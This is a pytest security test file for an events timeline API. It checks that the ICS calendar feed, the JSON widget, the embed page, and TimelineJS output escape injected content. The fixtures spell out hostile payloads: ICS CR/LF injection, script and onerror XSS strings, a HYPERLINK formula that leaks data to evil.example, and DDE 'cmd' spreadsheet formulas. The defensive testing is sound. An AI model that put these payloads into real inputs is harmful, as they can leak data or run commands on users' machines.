"""Text that attacks the outputs: stored as data, escaped wherever a format gives it meaning.

CR/LF and `BEGIN:VEVENT` in a title stay one escaped SUMMARY in the ICS feed; `<script>` and
`onerror=` are plain strings in the widget's JSON and escaped in the embed page's HTML;
spreadsheet formulas are returned verbatim as JSON data. The service never produces CSV, so
there is no spreadsheet to inject into (a client exporting CSV must escape formulas itself).
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from pathlib import Path

import icalendar
import msgspec
import pytest
from litestar.testing import TestClient

from api.app import create_app
from events.envelope import NewEvent
from events.reference import Reference
from events.store import EventStore
from events.types import Event
from tests.conftest import PROGRAMMES, REGIONS, SOURCES
from tests.faults.hostile import TOKEN, event
from timeline.settings import load_settings

ICS_TITLE = "Evil\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nURL:http://evil.example/"
ICS_TITLE_ZH = "恶意\nBEGIN:VALARM\nTRIGGER:-PT1M\nEND:VALARM"
SCRIPT = "<script>alert(1)</script>"
ONERROR = '<img src=x onerror="alert(2)">'
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
AUTH = {"Authorization": f"Bearer {TOKEN}"}


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("outputs") / "timeline.db"


@pytest.fixture(scope="module")
def client(db: Path) -> Iterator[TestClient]:
    path = db
    store = EventStore.open(path)
    reference = Reference(store.db)
    reference.ensure_schema()
    reference.upsert([*REGIONS, *PROGRAMMES, *SOURCES])
    store.close()
    settings = load_settings(environ={}, db=str(path), tokens=[TOKEN], scheduler=False)
    with TestClient(app=create_app(settings)) as client:
        yield client


@pytest.fixture(scope="module")
def written(client: TestClient, db: Path) -> dict[str, str]:
    """The hostile milestones, appended through the API; name -> event id, and `min_position`
    (read-your-writes: the views answer only once they reflect every one of them).

    The API refuses line breaks in a title since issue 18, so the CR/LF title goes straight
    into the store, as one written before that (or by a tool of its own) would be."""
    bodies = {
        "ics": event(title={"zh": ICS_TITLE_ZH, "en": ICS_TITLE}, occurred="2021-05-07"),
        "html": event(title={"zh": SCRIPT, "en": SCRIPT}, summary={"zh": ONERROR, "en": ONERROR}),
        **{
            f"formula{i}": event(title={"zh": f, "en": f}, summary={"zh": f, "en": f})
            for i, f in enumerate(FORMULAS)
        },
    }
    ids = {}
    legacy = bodies.pop("ics")
    assert client.post("/events", json=legacy, headers=AUTH).status_code == 422
    store = EventStore.open(db)
    appended = store.append([NewEvent(stream="legacy", event=msgspec.convert(legacy, type=Event))])
    store.close()
    ids["ics"] = appended.event_ids[0]
    for name, body in bodies.items():
        response = client.post("/events", json=body, headers=AUTH)
        assert response.status_code == 201, response.text
        ids[name] = response.json()["event_ids"][0]
        ids["min_position"] = str(response.json()["last_position"])
    return ids


def _unfolded(ics: bytes) -> list[str]:
    return ics.decode().replace("\r\n ", "").replace("\r\n\t", "").split("\r\n")


@pytest.mark.parametrize(("lang", "title"), [("en", ICS_TITLE), ("zh", ICS_TITLE_ZH)])
def test_crlf_and_begin_vevent_in_a_title_stay_one_escaped_summary(
    client: TestClient, written: dict[str, str], lang: str, title: str
) -> None:
    response = client.get(
        "/feeds/regions/140781.ics", params={"lang": lang, "min_position": written["min_position"]}
    )
    assert response.status_code == 200
    lines = _unfolded(response.content)
    calendar = icalendar.Calendar.from_ical(response.content)
    events = calendar.walk("VEVENT")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == len(events) == len(written) - 1
    assert not calendar.walk("VALARM")
    for line in lines:  # nothing the title carried became a property of its own
        assert not line.startswith(("SUMMARY:pwned", "URL:http://evil", "TRIGGER", "BEGIN:VALARM"))
    summaries = [str(e["SUMMARY"]) for e in events]
    assert title.replace("\r\n", "\n") in summaries
    assert any(line.startswith("SUMMARY:") and "\\n" in line for line in lines)


def test_markup_in_a_title_is_a_plain_string_in_the_widget_json(
    client: TestClient, written: dict[str, str]
) -> None:
    response = client.get(
        "/widget/regions/140781.json", params={"lang": "en", "min_position": written["min_position"]}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    entries = response.json()["entries"]
    assert {"title": SCRIPT, "summary": ONERROR} in [
        {"title": e["title"], "summary": e["summary"]} for e in entries
    ]


def test_the_embed_page_escapes_markup_from_the_data(client: TestClient, written: dict[str, str]) -> None:
    response = client.get(
        "/embed/regions/140781", params={"lang": "en", "min_position": written["min_position"]}
    )
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/html")
    page = response.text
    assert html.escape(SCRIPT, quote=False) in page
    assert "<script>alert" not in page and "<img" not in page and 'onerror="alert' not in page
    assert page.count("<script") == 1  # only the page's own widget.js


def test_timelinejs_gets_html_escaped_text(client: TestClient, written: dict[str, str]) -> None:
    response = client.get(
        "/timelinejs/regions/140781.json", params={"lang": "en", "min_position": written["min_position"]}
    )
    assert response.status_code == 200
    headlines = [e["text"]["headline"] for e in response.json()["events"]]
    assert html.escape(SCRIPT) in headlines and SCRIPT not in json.dumps(headlines)


@pytest.mark.parametrize("index", range(len(FORMULAS)))
def test_formula_like_text_is_stored_and_returned_verbatim(
    client: TestClient, written: dict[str, str], index: int
) -> None:
    formula = FORMULAS[index]
    record = client.get(f"/events/{written[f'formula{index}']}").json()["record"]
    assert record["event"]["title"] == {"zh": formula, "en": formula}
    timeline = client.get("/regions/140781/timeline", params={"min_position": written["min_position"]}).json()
    assert formula in [e["title"]["en"] for e in timeline["entries"]]


def test_the_service_never_produces_csv(client: TestClient, written: dict[str, str]) -> None:
    document = client.get("/schema/openapi.json").json()
    media_types = {
        media
        for path in document["paths"].values()
        for operation in path.values()
        for response in operation.get("responses", {}).values()
        for media in response.get("content", {})
    }
    assert media_types and not any("csv" in m or "excel" in m or "spreadsheet" in m for m in media_types)
    for url in (
        "/events",
        "/regions/140781/timeline",
        "/widget/regions/140781.json",
        "/feeds/regions/140781.ics",
    ):
        response = client.get(url, headers={"Accept": "text/csv"})
        assert "csv" not in response.headers.get("content-type", ""), url


def test_the_widget_script_never_builds_html_from_strings() -> None:
    """The widget renders data with DOM text nodes, so no title can become markup in the page."""
    static = Path(__file__).resolve().parents[1] / "api" / "static"
    for script in static.glob("*.js"):
        code = script.read_text()
        for sink in (
            ".innerHTML",
            ".outerHTML",
            ".insertAdjacentHTML",
            "document.write",
            "eval(",
            "Function(",
        ):
            assert sink not in code, (script.name, sink)
